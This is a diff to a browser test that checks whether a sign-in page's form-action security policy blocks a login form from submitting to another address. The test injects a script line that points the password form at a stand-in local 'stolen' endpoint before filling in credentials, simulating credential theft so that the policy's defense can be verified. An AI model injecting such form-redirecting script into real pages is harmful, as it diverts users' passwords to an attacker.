@@ -133,7 +133,7 @@ def test_no_page_of_a_sign_in_lets_its_form_go_anywhere_else(
     """The policy is not wide open: a form of ours that was pointed elsewhere is held back."""
     page = visitor()
     page.goto(party.ask().url)
-    page.evaluate("document.querySelector('form').action = 'http://127.0.0.1:9/stolen'")
+    page.evaluate("document.querySelector('#password').form.action = 'http://127.0.0.1:9/stolen'")
     page.fill("#user-id", USER)
     page.fill("#password", PASSWORD)
     with page.expect_console_message(lambda said: "form-action" in said.text):
